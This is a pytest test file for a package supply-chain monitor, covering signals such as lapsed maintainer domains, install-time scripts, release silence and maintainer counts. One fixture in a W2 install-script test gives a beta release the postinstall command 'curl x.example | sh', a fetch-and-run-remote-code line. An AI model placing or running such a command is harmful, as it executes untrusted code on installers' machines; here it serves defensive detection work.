"""When each signal holds, one claim a test, and what no series of observations may do."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec import UNSET

from config.settings import Thresholds
from monitor.observations import Account, Domain, DomainState, Package, Release
from monitor.signals.judging import Judging
from monitor.signals.limits import RELIEF, Cut, percentile, settled, too_many
from monitor.signals.model import Holds
from monitor.signals.table import SIGNALS
from monitor.signals.w1_domain import LAPSED, Published, lapsed_domain
from monitor.signals.w2_script import runs_on_install
from monitor.signals.w3_silence import activity, last_release, own_acts, silent
from monitor.signals.w4_maintainers import maintainers
from monitor.signals.w5_contributors import contributors

NOW = datetime(2026, 11, 20, 12, tzinfo=UTC)
TWO_YEARS = timedelta(days=730)
ALICE, BOB = Account("alice", "alice@alice.example"), Account("bob", "bob@bob.example")
CAROL = Account("carol", "carol@carol.example")
ACTIONS = Account("GitHub Actions", "npm-oidc-no-reply@github.com")
ON_ALICE = Published("alice.example", "alice@alice.example", "npm:~alice")


def release(version: str, days_ago: float, **told: Any) -> Release:
    facts: dict[str, Any] = {"publisher": ALICE, "trusted_publisher": "", "maintainers": (ALICE,), "scripts": {}}
    return Release(version=version, published_at=NOW - timedelta(days=days_ago), **(facts | told))


def package(*releases: Release, **told: Any) -> Package:
    served = {one.version: one for one in releases}
    facts: dict[str, Any] = {"maintainers": (ALICE,), "latest": releases[-1].version if releases else UNSET}
    return Package(ecosystem="npm", name="left-pad", releases=served, **(facts | told))


def days_ago(**people: int) -> dict[str, datetime]:
    return {name: NOW - timedelta(days=days) for name, days in people.items()}


def holds(found: Any) -> Holds:
    assert isinstance(found, Holds)
    return found


# --- W1 ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("state", list(DomainState))
def test_w1_holds_from_expired_on(state: DomainState) -> None:
    lapsed = {"alice.example": Domain(name="alice.example", state=state)} if state in LAPSED else {}
    assert (lapsed_domain([ON_ALICE], lapsed) is not None) is (
        state in {DomainState.EXPIRED, DomainState.REDEMPTION, DomainState.PENDING_DELETE, DomainState.UNREGISTERED}
    )


def test_w1_names_the_gravest_domain_its_addresses_and_since_when() -> None:
    expired = Domain(name="bob.example", state=DomainState.EXPIRED, expires_at=NOW - timedelta(days=3))
    gone = Domain(name="alice.example", state=DomainState.UNREGISTERED)
    on_bob = Published("bob.example", "bob@bob.example", "npm:~bob")
    found = holds(lapsed_domain([on_bob, ON_ALICE], {"bob.example": expired, "alice.example": gone}))
    assert found.value == ["alice.example", "bob.example"]
    assert found.since == NOW - timedelta(days=3)
    assert found.cause == "domain:alice.example"
    assert SIGNALS["W1"].says("pkg:npm/left-pad", found, NOW) == (
        "npm:left-pad: alice@alice.example of npm:~alice, an address published in the metadata, is on a lapsed domain: "
        "alice.example is unregistered (and 1 more)"
    )


def test_w1_finds_its_words_whatever_the_gravest_domain_is_called() -> None:
    expired = [Published(f"a{n}.example", f"me@a{n}.example") for n in range(60)]
    domains = {one.domain: Domain(name=one.domain, state=DomainState.EXPIRED) for one in expired}
    gone = Domain(name="z.example", state=DomainState.UNREGISTERED)
    found = holds(lapsed_domain([*expired, Published("z.example", "me@z.example")], domains | {"z.example": gone}))
    assert "me@z.example" in SIGNALS["W1"].says("pkg:npm/left-pad", found, NOW)


def test_w1_says_nothing_of_the_account_itself() -> None:
    lapsed = {"alice.example": Domain(name="alice.example", state=DomainState.PENDING_DELETE)}
    words = SIGNALS["W1"].says("npm:~alice", holds(lapsed_domain([ON_ALICE], lapsed)), NOW)
    assert words.startswith(
        "npm:~alice: alice@alice.example, an address published in the metadata, is on a lapsed domain"
    )


# --- W2 ---------------------------------------------------------------------------------------------------------


def test_w2_tells_what_the_latest_release_runs_and_since_which_one() -> None:
    script = {"postinstall": "node-gyp rebuild"}
    found = holds(
        runs_on_install(
            package(
                release("1.0.0", 90, scripts=script),
                release("1.1.0", 80),
                release("1.2.0", 70, scripts=script),
                release("1.3.0", 60, scripts=UNSET),
                release("1.4.0", 50, scripts={"install": "node x.js"}),
            )
        )
    )
    assert found.since == NOW - timedelta(days=70)
    assert found.evidence["first_version"] == "1.2.0"
    assert found.cause == "release:pkg:npm/left-pad@1.4.0"
    assert "1.4.0 runs a file of the package when it is installed" in SIGNALS["W2"].says("pkg:npm/left-pad", found, NOW)


def test_w2_judges_the_version_that_an_install_gets() -> None:
    evil = release("2.0.0-beta", 1, scripts={"postinstall": "curl x.example | sh"})
    assert runs_on_install(package(release("1.0.0", 90), evil, latest="1.0.0")) is None


def test_w2_knows_a_build_from_source_by_its_missing_wheel() -> None:
    sdist = Release(version="1.0", source_build=True)
    assert holds(runs_on_install(package(sdist))).value["build"].startswith("setup.py")
    assert runs_on_install(package(Release(version="1.0", source_build=False))) is None


@pytest.mark.parametrize(
    "told",
    [package(release("1.0.0", 9, scripts=UNSET)), package(release("1.0.0", 9), latest=UNSET), package(latest="9.9.9")],
)
def test_w2_is_unknown_without_scripts_or_a_latest_version(told: Package) -> None:
    assert runs_on_install(told) is UNSET


# --- W3 ---------------------------------------------------------------------------------------------------------


def test_w3_begins_on_the_day_after_which_it_is_too_long() -> None:
    last = NOW - TWO_YEARS
    found = holds(silent(last, TWO_YEARS, NOW))
    assert found.since == NOW
    assert found.threshold == 730
    assert silent(last, TWO_YEARS, NOW - timedelta(seconds=1)) is None
    assert SIGNALS["W3"].shown(found, NOW + timedelta(days=10)) == 740


def test_w3_counts_releases_that_were_taken_back_and_no_future() -> None:
    taken_back = package(release("1.0.0", 900), withdrawn={"1.1.0": NOW - timedelta(days=10)})
    assert last_release(taken_back, NOW) == NOW - timedelta(days=10)
    assert last_release(package(release("1.0.0", -400)), NOW) == NOW


def test_w3_is_unknown_where_a_release_has_no_date() -> None:
    undated = Release(version="1.1.0")
    assert last_release(package(release("1.0.0", 900), undated), NOW) is UNSET
    assert silent(UNSET, TWO_YEARS, NOW) is UNSET


def test_a_release_counts_for_all_who_could_publish_it_and_is_an_act_of_its_publisher_alone() -> None:
    told = package(
        release("1.0.0", 900, maintainers=(ALICE, BOB)),
        release("1.1.0", 90, publisher=BOB, maintainers=(ALICE, BOB)),
        release("1.2.0", 9, publisher=CAROL, maintainers=(CAROL,)),
        maintainers=(CAROL,),
    )
    assert activity(told, NOW) == {
        name: NOW - timedelta(days=ago) for name, ago in {"alice": 90, "bob": 90, "carol": 9}.items()
    }
    assert own_acts(told, NOW) == {
        name: NOW - timedelta(days=ago) for name, ago in {"alice": 900, "bob": 90, "carol": 9}.items()
    }


def test_whoever_can_publish_a_package_now_has_an_active_one_if_it_is() -> None:
    told = package(release("1.0.0", 90), release("1.1.0", -400), maintainers=(ALICE, BOB, ACTIONS))
    assert activity(told, NOW) == {"alice": NOW, "bob": NOW}, "dates in the future are wrong, and said to be now"
    assert activity(package(release("1.0.0", 90), maintainers=UNSET), NOW) == {"alice": NOW - timedelta(days=90)}
    taken_back = package(release("1.0.0", 900), withdrawn={"1.1.0": NOW - timedelta(days=9)})
    assert activity(taken_back, NOW) == {"alice": NOW - timedelta(days=9)}
    assert own_acts(taken_back, NOW) == {"alice": NOW - timedelta(days=900)}, "who published that one is not told"


def test_trusted_publishing_counts_for_every_maintainer_and_is_nobodys_own_act() -> None:
    told = package(release("1.0.0", 9, publisher=ACTIONS, trusted_publisher="github", maintainers=(ALICE, BOB)))
    assert set(activity(told, NOW)) == {"alice", "bob"}
    assert own_acts(told, NOW) == {}
    named = package(release("1.0.0", 9, publisher=ALICE, trusted_publisher="github"))
    assert own_acts(named, NOW) == {}, "whatever name stands there"


def test_a_staged_release_is_the_own_act_of_who_approved_it() -> None:
    told = package(release("1.0.0", 9, publisher=ACTIONS, trusted_publisher="github", approver="bob"))
    assert set(activity(told, NOW)) == {"alice", "bob"}
    assert set(own_acts(told, NOW)) == {"bob"}


def test_a_release_of_nobody_told_counts_for_those_listed_and_is_nobodys_own_act() -> None:
    silent_mirror = package(release("1.0.0", 9, publisher=UNSET, maintainers=UNSET), maintainers=(ALICE, ACTIONS))
    assert set(activity(silent_mirror, NOW)) == {"alice"}
    assert own_acts(silent_mirror, NOW) == {}


def test_what_may_have_a_later_release_is_known_at_most_not_to_be_silent() -> None:
    judging = Judging(Thresholds(), NOW, None)
    old, late = (int((NOW - timedelta(days=ago)).timestamp()) for ago in (900, 9))
    assert holds(judging.silence(old)(None))
    assert judging.silence(old, certain=False)(None) is UNSET
    assert judging.silence(late, certain=False)(None) is None


# --- W4 to W6 ---------------------------------------------------------------------------------------------------


def test_pseudo_accounts_are_no_maintainers() -> None:
    assert maintainers(package(maintainers=(ALICE, BOB, ACTIONS))) == 2
    assert maintainers(package(maintainers=UNSET)) is UNSET
    assert contributors(package(contributors=("a", "b"))) == 2
    assert contributors(package()) is UNSET


def test_a_count_must_reach_both_thresholds() -> None:
    assert too_many(20, Cut(20), None) is not None
    assert too_many(19, Cut(20), None) is None
    assert too_many(25, Cut(20, 30), None) is None
    assert holds(too_many(30, Cut(20, 30), None)).threshold == 30


def test_an_edited_threshold_is_applied_at_once() -> None:
    held = too_many(22, Cut(20), None)
    assert too_many(22, Cut(23), held) is None


def test_nothing_is_counted_before_the_percentiles_were_taken() -> None:
    assert Judging(Thresholds(), NOW, None).count("W4", 500)(None) is UNSET
    assert holds(Judging(Thresholds(), NOW, {}).count("W6", 500, "search")(None)).evidence["counted_by"] == "search"


def test_a_percentile_needs_something_that_could_lie_above_it() -> None:
    assert percentile({1: 99}, 99.0) is None
    assert percentile({1: 98, 7: 1, 9: 1}, 99.0) == 7
    assert percentile({}, 99.0) is None


@given(st.dictionaries(st.integers(0, 300), st.integers(1, 50), min_size=1), st.floats(51, 99.9))
def test_a_percentile_is_the_nearest_rank(counts: dict[int, int], percent: float) -> None:
    values = sorted(value for value, count in counts.items() for _ in range(count))
    found = percentile(counts, percent)
    if found is not None:
        at_most = sum(value <= found for value in values)
        below = sum(value < found for value in values)
        assert at_most >= len(values) * percent / 100 > below


@given(st.integers(1, 400), st.lists(st.integers(0, 400), max_size=20))
def test_a_percentile_that_moves_alone_never_clears(count: int, relatives: list[int]) -> None:
    held = too_many(count, Cut(2, 1), None)
    for relative in relatives:
        now = too_many(count, Cut(2, relative), held)
        assert held is None or now is not None
        held = now


@given(st.integers(20, 400), st.lists(st.floats(RELIEF, 1.1), max_size=30))
def test_a_count_that_jitters_never_clears(threshold: int, factors: list[float]) -> None:
    held = too_many(threshold, Cut(threshold), None)
    for factor in factors:
        held = too_many(-int(-threshold * factor // 1), Cut(threshold), held)
        assert held is not None


@given(st.lists(st.integers(0, 100), max_size=30))
def test_without_a_clear_fall_between_it_is_raised_once(counts: list[int]) -> None:
    held, raised_at = None, None
    for count in counts:
        now = too_many(count, Cut(20), held)
        if held is None and now is not None:
            raised_at = count
        if held is not None and now is None:
            assert count < RELIEF * held.threshold
        held = now
    assert raised_at is None or raised_at >= 20


@given(st.integers(1, 1000), st.integers(1, 1000))
def test_a_kept_percentile_follows_a_real_move_only(kept: int, fresh: int) -> None:
    assert settled(kept, fresh) == (fresh if abs(fresh - kept) > 0.1 * kept else kept)
    assert settled(None, fresh) == fresh
    assert settled(kept, None) is None


def test_every_signal_says_what_it_is_and_what_it_is_not() -> None:
    assert list(SIGNALS) == ["W1", "W2", "W3", "W4", "W5", "W6"]
    for signal in SIGNALS.values():
        assert all((signal.name, signal.source, signal.threshold, signal.means, signal.not_means, signal.advice))
        assert signal.severity <= 1, "the study's survey makes none of them loud"
